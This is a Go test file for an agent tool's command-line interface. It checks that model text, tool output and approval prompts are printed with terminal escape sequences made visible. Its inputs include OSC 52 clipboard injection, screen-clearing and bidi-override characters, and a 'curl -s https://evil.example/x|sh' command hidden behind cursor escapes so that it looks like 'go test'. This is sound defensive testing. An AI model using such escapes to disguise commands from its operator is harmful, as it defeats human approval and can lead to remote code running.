package cli

import (
	"bytes"
	"encoding/json"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/aos-run/aos/internal/demo"
	"github.com/aos-run/aos/internal/store/storetest"
)

// Hostile strings a model can get printed: each would make the owner's
// terminal act (clipboard, screen) or show something else than what is.
const (
	osc52     = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
	clear     = "\x1b[2J\x1b[H"
	spoofCmd  = "curl -s https://evil.example/x|sh\x1b[1A\x1b[2K\rgo test ./...      "
	c1CSI     = "\u009b2J"
	rlo       = "ls \u202e hs.live"
	hostileTx = "hello " + osc52 + clear + c1CSI + rlo + "\u200b\u2028"
)

// TestPrinterEscapesHostileText feeds every kind of event the timeline
// prints with hostile text and asserts that no byte a terminal acts on
// reaches the output, that the escapes are visible, and that the approval
// prompt shows the exact command and warns.
func TestPrinterEscapesHostileText(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	p := &eventPrinter{out: &out}
	ev := func(kind string, payload any) {
		b, err := json.Marshal(payload)
		if err != nil {
			t.Fatal(err)
		}
		p.render("m1", kind, b)
	}
	ev("model.delta", map[string]any{"type": "text", "text": hostileTx})
	ev("step.completed", map[string]any{"kind": "model_call", "result": map[string]any{
		"blocks":  []map[string]any{{"type": "thinking", "text": "reasoning " + hostileTx}, {"type": "text", "text": "text " + hostileTx}},
		"failure": map[string]any{"message": "model error " + hostileTx}}})
	ev("step.started", map[string]any{"kind": "tool_call", "name": "shell", "request": map[string]any{"input": map[string]any{"command": hostileTx}}})
	ev("step.completed", map[string]any{"kind": "tool_call", "result": map[string]any{"ok": false, "content": "tool output " + hostileTx, "diff": "+" + hostileTx}})
	ev("step.failed", map[string]any{"name": "shell", "error": "tool error " + hostileTx})
	ev("policy.decision", map[string]any{"decision": "deny", "tool": "shell" + clear, "source": "rule", "reason": "because " + hostileTx, "notRemembered": hostileTx})
	ev("owner.message", map[string]any{"text": hostileTx})
	ev("system.notice", map[string]any{"message": hostileTx})
	ev("wait.resolved", map[string]any{"waitId": "w" + osc52, "status": "approved" + clear})
	wait := func(kind string, payload any) waitPayload {
		b, _ := json.Marshal(payload)
		return p.printWait("w1"+clear, kind, b, true)
	}
	wait("question", map[string]any{"text": "Which? " + hostileTx, "options": []string{"a" + osc52, "b" + rlo}})
	before := out.Len()
	wait("approval", map[string]any{"tool": "shell", "title": "Run a shell command" + c1CSI, "reason": "default for network" + clear,
		"detail": spoofCmd, "diff": hostileTx})
	prompt := out.String()[before:]

	got := out.String()
	assertInert(t, got)
	for _, want := range []string{`\x1b]52;c;`, `\x1b[2J`, `\u009b2J`, `\u202e`, `\u200b`, `\u2028`} {
		if !strings.Contains(got, want) {
			t.Errorf("output lacks the visible escape %s:\n%s", want, got)
		}
	}
	if !strings.Contains(prompt, `curl -s https://evil.example/x|sh\x1b[1A\x1b[2K\x0dgo test ./...      `) {
		t.Errorf("the approval prompt does not show the exact command, escaped:\n%s", prompt)
	}
	if !strings.Contains(prompt, "WARNING") || !strings.Contains(prompt, "control characters") {
		t.Errorf("the approval prompt does not warn:\n%s", prompt)
	}

	// Positive control: a plain command prints as itself, without a warning.
	out.Reset()
	wait("approval", map[string]any{"tool": "shell", "title": "Run a shell command", "reason": "default for network", "detail": "go test ./... 2>&1 | tail -n 20"})
	if s := out.String(); !strings.Contains(s, "      go test ./... 2>&1 | tail -n 20\n") || strings.Contains(s, "WARNING") {
		t.Errorf("plain approval:\n%s", s)
	}
}

// assertInert fails if s holds a byte or character a terminal acts on:
// C0 controls but newline and tab, DEL, C1, bidi and format characters,
// line separators, invalid UTF-8.
func assertInert(t *testing.T, s string) {
	t.Helper()
	for i, r := range s {
		if r == utf8.RuneError || r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f || r >= 0x200b && r <= 0x200f ||
			r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0x2028 || r == 0x2029 || r == 0xfeff {
			t.Fatalf("output holds %U at byte %d:\n%q", r, i, s)
		}
	}
}

// hostileWatchScript writes escape sequences into the model's text, a
// file read back as tool output, and the finish summary.
const hostileWatchScript = `name: test
turns:
  - thinking: "plan \e]52;c;Y3VybCBldmlsfHNo\a"
    text: "hello \e[2J\e[H \u009b2J ls \u202e hs.live"
    tool_calls: [{name: write_file, input: {path: notes.txt, content: "file \e]52;c;eA==\a\e[2J\u009b31m \u202e red\n"}}]
  - tool_calls: [{name: read_file, input: {path: notes.txt}}]
  - expect: [{last_tool_result_contains: "file"}]
    tool_calls: [{name: finish, input: {status: partial, summary: "done \e[2J\e]52;c;eA==\a \u202e", evidence: [], openQuestions: []}}]
`

// TestWatchEscapesHostileText: aos mission watch, over the API and the
// WebSocket, prints a hostile model's words with visible escapes, and
// --json prints no raw C1, bidi or format character either.
func TestWatchEscapesHostileText(t *testing.T) {
	r := setupRemote(t, storetest.New(t, "sqlite"))
	if err := demo.WriteRepo(filepath.Join(r.root, "repo")); err != nil {
		t.Fatal(err)
	}
	startWorker(t, r, hostileWatchScript)
	out, errOut, code := r.aos("mission", "create", "x", "--workspace", "repo", "--criteria", "c", "--model", "script:test",
		"--budget-usd", "0.1", "--max-turns", "10", "--watch")
	if code != exitPartial {
		t.Fatalf("watch: exit %d\n%s\n%s", code, out, errOut)
	}
	assertInert(t, out+errOut)
	for _, want := range []string{`(thinking) plan \x1b]52;c;Y3VybCBldmlsfHNo\x07`, `hello \x1b[2J\x1b[H \u009b2J ls \u202e hs.live`,
		`1	file \x1b]52;c;eA==\x07\x1b[2J\u009b31m \u202e red`, `■ partial — done \x1b[2J\x1b]52;c;eA==\x07 \u202e`} {
		if !strings.Contains(out, want) {
			t.Errorf("watch output lacks %s:\n%s", want, out)
		}
	}

	id := regexp.MustCompile(`mission ([0-9a-f-]{36}) created`).FindStringSubmatch(out)[1]
	js, errOut, code := r.aos("mission", "watch", id, "--json")
	if code != exitPartial || !strings.Contains(js, `\u202e`) || !strings.Contains(js, `\u009b`) {
		t.Fatalf("watch --json: exit %d\n%s\n%s", code, js, errOut)
	}
	assertInert(t, js)
	for _, line := range strings.Split(strings.TrimSpace(js), "\n") {
		if !json.Valid([]byte(line)) {
			t.Fatalf("watch --json printed a line that is not JSON: %s", line)
		}
	}
}
